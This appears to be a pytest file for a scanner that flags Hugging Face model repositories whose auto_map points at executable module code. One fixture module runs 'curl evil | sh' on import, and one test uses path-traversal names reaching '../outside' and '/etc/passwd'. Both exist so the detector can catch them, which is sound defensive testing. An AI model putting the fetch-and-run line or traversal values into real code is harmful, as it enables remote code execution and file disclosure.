"""auto_map linked to the modules it names: read by the Python rules whatever their name,
missing ones a finding, other repositories' a finding of their own."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from checks.base import CheckResult, Contribution
from checks.cache import MemoryResultCache
from checks.findings import Severity
from checks.weights.check import WeightScanCheck
from reviewbot.cli import main

EVIL = "import os\n\nos.system('curl evil | sh')\n\nclass TinyModel: ...\n"
PLAIN = "class TinyModel:\n    pass\n"


def _config(folder: Path, auto_map: dict[str, object], name: str = "config.json") -> None:
    from transformers import PretrainedConfig

    config = PretrainedConfig()
    config.auto_map = auto_map
    folder.mkdir(parents=True, exist_ok=True)
    config.save_pretrained(folder)
    if name != "config.json":
        (folder / "config.json").rename(folder / name)


def _run(root: Path) -> CheckResult:
    files = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
    return WeightScanCheck().run(Contribution(root=root, files=files))


def _found(result: CheckResult) -> set[tuple[str, str, Severity]]:
    return {(f.path, f.rule, f.severity) for f in result.findings}


def test_an_unconventionally_named_module_is_read_by_the_python_rules(tmp_path: Path) -> None:
    _config(tmp_path, {"AutoModel": "tiny.TinyModel"})
    (tmp_path / "tiny.py").write_text(EVIL)
    result = _run(tmp_path)
    found = _found(result)
    assert ("config.json", "remote-code", Severity.MEDIUM) in found
    assert ("tiny.py", "code-runs-on-load", Severity.CRITICAL) in found
    code = [f for f in result.findings if f.path == "tiny.py" and f.rule == "loader-code"]
    assert len(code) == 1 and "trust_remote_code=True" in code[0].message
    remote = next(f for f in result.findings if f.rule == "remote-code")
    assert "tiny.py" in remote.message and remote.extra["file"] == "tiny.py"


def test_a_conventionally_named_module_is_read_once(tmp_path: Path) -> None:
    _config(tmp_path, {"AutoModel": "modeling_tiny.TinyModel"})
    (tmp_path / "modeling_tiny.py").write_text(PLAIN)
    result = _run(tmp_path)
    assert [f.rule for f in result.findings if f.path == "modeling_tiny.py"] == ["loader-code"]
    assert all(f.rule != "remote-code-missing" for f in result.findings)


def test_a_missing_module_is_a_finding(tmp_path: Path) -> None:
    _config(tmp_path, {"AutoModel": "modeling_gone.TinyModel"})
    result = _run(tmp_path)
    missing = [f for f in result.findings if f.rule == "remote-code-missing"]
    assert len(missing) == 1 and missing[0].severity is Severity.MEDIUM
    assert "modeling_gone.py" in missing[0].message
    assert "trust_remote_code=True" in missing[0].message


def test_another_repositorys_module_is_its_own_finding(tmp_path: Path) -> None:
    _config(tmp_path, {"AutoModel": "someone/else--modeling_evil.EvilModel"})
    found = _found(_run(tmp_path))
    assert found == {("config.json", "remote-code-elsewhere", Severity.HIGH)}


@pytest.mark.parametrize(
    "name", ["tokenizer_config.json", "preprocessor_config.json", "processor_config.json"]
)
def test_every_auto_map_config_is_linked(tmp_path: Path, name: str) -> None:
    _config(tmp_path, {"AutoTokenizer": ["tok.TinyTokenizer", None]}, name)
    (tmp_path / "tok.py").write_text(EVIL)
    assert ("tok.py", "code-runs-on-load", Severity.CRITICAL) in _found(_run(tmp_path))


def test_a_config_in_a_folder_links_beside_itself(tmp_path: Path) -> None:
    _config(tmp_path / "sub", {"AutoModel": "tiny.TinyModel"})
    (tmp_path / "sub" / "tiny.py").write_text(EVIL)
    (tmp_path / "tiny.py").write_text(PLAIN)  # not the one a loader would import
    assert ("sub/tiny.py", "code-runs-on-load", Severity.CRITICAL) in _found(_run(tmp_path))


def test_a_name_that_climbs_out_is_never_read(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    _config(root, {"AutoModel": "../outside.TinyModel", "AutoConfig": "/etc/passwd.X"})
    (tmp_path / "outside.py").write_text(EVIL)
    found = _found(_run(root))
    assert {rule for _, rule, _ in found} == {"remote-code"}


def test_a_linked_module_behind_a_symlink_is_not_followed(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "tiny.py").write_text(EVIL)
    _config(root, {"AutoModel": "lib/tiny.TinyModel"})
    (root / "lib").symlink_to(tmp_path / "elsewhere")
    result = WeightScanCheck().run(Contribution(root=root, files=["config.json"]))
    assert all(f.rule != "code-runs-on-load" for f in result.findings)


def test_the_cli_links_a_module_beside_a_scanned_config(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _config(tmp_path, {"AutoModel": "tiny.TinyModel"})
    (tmp_path / "tiny.py").write_text(EVIL)
    code = main(["scan", "--format", "json", str(tmp_path / "config.json")])
    report = json.loads(capsys.readouterr().out)
    assert code == 1
    assert any(
        f["rule"] == "code-runs-on-load" and f["path"].endswith("tiny.py")
        for f in report["findings"]
    )


def _cached_run(root: Path, cache: MemoryResultCache) -> CheckResult:
    import hashlib

    files = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
    known = {f: hashlib.sha256((root / f).read_bytes()).hexdigest() for f in files}
    contribution = Contribution(root=root, files=files, known_sha256=known, result_cache=cache)
    return WeightScanCheck().run(contribution)


def test_a_cached_config_links_beside_its_new_folder(tmp_path: Path) -> None:
    cache = MemoryResultCache()
    _config(tmp_path / "one" / "a", {"AutoModel": "tiny.TinyModel"})
    (tmp_path / "one" / "a" / "tiny.py").write_text(PLAIN)
    _cached_run(tmp_path / "one", cache)
    # The same config bytes in another folder, restored from the cache: linked beside itself.
    _config(tmp_path / "two" / "b", {"AutoModel": "tiny.TinyModel"})
    (tmp_path / "two" / "b" / "tiny.py").write_text(EVIL)
    result = _cached_run(tmp_path / "two", cache)
    assert any(f.path == "b/config.json" and f.rule == "remote-code" for f in result.findings)
    assert ("b/tiny.py", "code-runs-on-load", Severity.CRITICAL) in _found(result)


def test_a_clean_json_never_stands_in_for_a_config(tmp_path: Path) -> None:
    cache = MemoryResultCache()
    _config(tmp_path / "one", {"AutoModel": "someone/else--modeling_evil.EvilModel"})
    (tmp_path / "one" / "config.json").rename(tmp_path / "one" / "settings.json")
    assert _cached_run(tmp_path / "one", cache).findings == []
    # The same bytes as config.json: scanned for auto_map, not restored from settings.json.
    _config(tmp_path / "two", {"AutoModel": "someone/else--modeling_evil.EvilModel"})
    assert ("config.json", "remote-code-elsewhere", Severity.HIGH) in _found(
        _cached_run(tmp_path / "two", cache)
    )
